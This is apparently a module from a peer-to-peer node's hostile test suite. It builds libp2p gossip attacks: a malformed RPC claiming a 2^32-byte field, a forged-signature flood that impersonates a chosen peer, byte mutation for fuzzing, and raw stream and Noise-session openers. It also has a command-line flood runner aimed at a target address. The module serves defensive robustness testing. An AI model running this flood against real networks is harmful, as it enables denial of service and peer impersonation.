"""Attacks on a node's gossip and transport, as a hostile peer would run them.

Builders return the exact bytes an attacker writes; the openers give the attacker a raw
libp2p stream or a raw Noise session on a real connection, so the bytes reach the node's
decoders unfiltered. The forged-signature flood also runs as its own process
(``python -m tests.hostile.attacks flood ...``), so a measurement of the target's CPU does
not count the attacker's.
"""

from __future__ import annotations

import argparse
import os
from collections.abc import Iterable, Sequence
from typing import Any

import multiaddr
import trio
from libp2p.abc import IHost, INetStream, ISecureConn
from libp2p.crypto.keys import KeyPair
from libp2p.crypto.x25519 import create_new_key_pair as create_new_x25519_key_pair
from libp2p.custom_types import TProtocol
from libp2p.io.trio import TrioTCPStream
from libp2p.network.connection.raw_connection import RawConnection
from libp2p.peer.id import ID as PeerID
from libp2p.protocol_muxer.multiselect_client import MultiselectClient
from libp2p.protocol_muxer.multiselect_communicator import MultiselectCommunicator
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE_PROTOCOL_ID
from libp2p.security.noise.transport import Transport as NoiseTransport
from libp2p.security.security_multistream import SecurityMultistream
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX_PROTOCOL_ID

__all__ = [
    "MALFORMED_RPC",
    "NON_IDENTITY_FROM",
    "forged_signature_flood",
    "frame",
    "message_rpc",
    "mutate",
    "open_noise_session",
    "open_raw_stream",
    "publish_rpc",
    "signed_message",
    "unsigned_message",
    "varint",
]

MALFORMED_RPC = bytes.fromhex("060affffffff0f")
"""A length-prefixed pubsub RPC whose first field claims a 2^32-byte subscription."""
NON_IDENTITY_FROM = bytes.fromhex("1220") + b"\xab" * 32
"""A sha2-256 multihash as a message's ``from``: a peer id with no public key inside it."""


def varint(value: int) -> bytes:
    """Unsigned LEB128, as libp2p length prefixes use."""
    if value < 0:
        raise ValueError(f"varint of a negative number: {value}")
    out = bytearray()
    while True:
        low = value & 0x7F
        value >>= 7
        if value:
            out.append(low | 0x80)
        else:
            out.append(low)
            return bytes(out)


def frame(payload: bytes) -> bytes:
    """``payload`` with its varint length in front: one pubsub RPC on the wire."""
    return varint(len(payload)) + payload


def unsigned_message(
    topic: str, data: bytes, from_id: bytes, seqno: bytes, key: bytes = b"", signature: bytes = b""
) -> rpc_pb2.Message:
    return rpc_pb2.Message(
        from_id=from_id, data=data, seqno=seqno, topicIDs=[topic], key=key, signature=signature
    )


def signed_message(key_pair: KeyPair, topic: str, data: bytes, seqno: bytes) -> rpc_pb2.Message:
    """A message signed as strict signing wants it, by ``key_pair``'s peer."""
    from_id = PeerID.from_pubkey(key_pair.public_key).to_bytes()
    body = rpc_pb2.Message(from_id=from_id, data=data, seqno=seqno, topicIDs=[topic])
    signature = key_pair.private_key.sign(
        PUBSUB_SIGNING_PREFIX.encode() + body.SerializeToString()
    )
    return unsigned_message(topic, data, from_id, seqno, signature=signature)


def message_rpc(messages: Iterable[rpc_pb2.Message]) -> bytes:
    """One framed RPC publishing ``messages``."""
    return frame(rpc_pb2.RPC(publish=list(messages)).SerializeToString())


def publish_rpc(message: rpc_pb2.Message) -> bytes:
    return message_rpc([message])


def forged_signature_flood(
    topic: str, impersonated: PeerID, data: bytes, count: int, first_seqno: int = 0
) -> list[bytes]:
    """``count`` framed RPCs, each a message in ``impersonated``'s name with a random
    64-byte signature: the cheapest flood (no signing), and each one costs the receiver a
    signature check."""
    from_id = impersonated.to_bytes()
    return [
        publish_rpc(
            unsigned_message(
                topic,
                data,
                from_id,
                (first_seqno + index).to_bytes(8, "big"),
                signature=os.urandom(64),
            )
        )
        for index in range(count)
    ]


def mutate(draw: Any, data: bytes, max_insert: int = 4) -> bytes:
    """``data`` with one to four bytes flipped, a tail cut or bytes inserted, as hypothesis'
    ``draw`` chooses: near-valid input that reaches deep into a decoder."""
    from hypothesis import strategies as st

    out = bytearray(data)
    for _ in range(draw(st.integers(1, 4))):
        position = draw(st.integers(0, len(out)))
        action = draw(st.sampled_from(["flip", "cut", "insert"]))
        if action == "flip" and position < len(out):
            out[position] ^= draw(st.integers(1, 255))
        elif action == "cut":
            del out[position:]
        else:
            out[position:position] = draw(st.binary(min_size=1, max_size=max_insert))
    return bytes(out)


async def open_raw_stream(
    attacker: IHost, target: PeerID, protocol: TProtocol = PROTOCOL_ID_V11
) -> INetStream:
    """A stream on ``protocol`` to an already connected ``target``, to write raw bytes on."""
    return await attacker.new_stream(target, [protocol])


async def open_noise_session(
    key_pair: KeyPair, target_addr: multiaddr.Multiaddr, target: PeerID
) -> ISecureConn:
    """A TCP connection to ``target`` secured with Noise and with Yamux agreed on, but
    no muxer on our side: what we write next reaches the target's Yamux reader raw."""
    host = target_addr.value_for_protocol("ip4")
    port = int(target_addr.value_for_protocol("tcp"))
    tcp = await trio.open_tcp_stream(host, port)
    raw = RawConnection(TrioTCPStream(tcp), True)
    noise = NoiseTransport(key_pair, noise_privkey=create_new_x25519_key_pair().private_key)
    security = SecurityMultistream({TProtocol(NOISE_PROTOCOL_ID): noise})
    secure = await security.secure_outbound(raw, target)
    await MultiselectClient().select_one_of(
        [TProtocol(YAMUX_PROTOCOL_ID)], MultiselectCommunicator(secure)
    )
    return secure


async def open_multistream(target_addr: multiaddr.Multiaddr) -> trio.SocketStream:
    """A bare TCP connection to the target's listener, before any handshake."""
    host = target_addr.value_for_protocol("ip4")
    port = int(target_addr.value_for_protocol("tcp"))
    return await trio.open_tcp_stream(host, port)


# --- the flood as a process -----------------------------------------------------------------


async def _flood(args: argparse.Namespace) -> None:
    """Each identity in turn connects, writes its share of the flood on one pubsub stream and
    stays until the target disconnects it (or ``linger_s``); prints what got through."""
    from pathlib import Path

    from node.host import HostConfig, connect, open_host

    impersonated = PeerID.from_base58(args.impersonate)
    data = bytes.fromhex(args.data)
    per_identity = args.count // args.identities
    sent_total = 0
    still_connected = 0
    for identity in range(args.identities):
        frames = forged_signature_flood(
            args.topic, impersonated, data, per_identity, first_seqno=identity * per_identity
        )
        key_path = Path(args.key if identity == 0 else f"{args.key}.{identity}")
        async with open_host(HostConfig(key_path=key_path)) as host:
            target = await connect(host, args.target)
            stream = await open_raw_stream(host, target)
            try:
                for start in range(0, len(frames), args.batch):
                    await stream.write(b"".join(frames[start : start + args.batch]))
                    sent_total += len(frames[start : start + args.batch])
            except Exception as exc:  # the target reset the stream or the connection
                print(f"identity {identity}: cut off: {type(exc).__name__}", flush=True)
            with trio.move_on_after(args.linger_s):
                while host.get_network().connections.get(target):
                    await trio.sleep(0.05)
            still_connected += bool(host.get_network().connections.get(target))
    print(f"sent {sent_total}", flush=True)
    print(f"identities still connected at exit: {still_connected}", flush=True)


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="python -m tests.hostile.attacks")
    commands = parser.add_subparsers(dest="command", required=True)
    flood = commands.add_parser("flood", help="forged-signature flood on one gossip topic")
    flood.add_argument("--target", required=True, help="the target's /ip4/.../p2p/... address")
    flood.add_argument("--topic", required=True)
    flood.add_argument("--impersonate", required=True, help="peer id (base58) to sign as")
    flood.add_argument("--data", required=True, help="message body, hex")
    flood.add_argument(
        "--key", required=True, help="attacker identity file (created; KEY.1, KEY.2... for more)"
    )
    flood.add_argument("--count", type=int, default=2000, help="messages in all")
    flood.add_argument("--identities", type=int, default=1, help="peer ids to flood from")
    flood.add_argument("--batch", type=int, default=50)
    flood.add_argument("--linger-s", type=float, default=30.0)
    args = parser.parse_args(argv)
    trio.run(_flood, args)


if __name__ == "__main__":
    main()
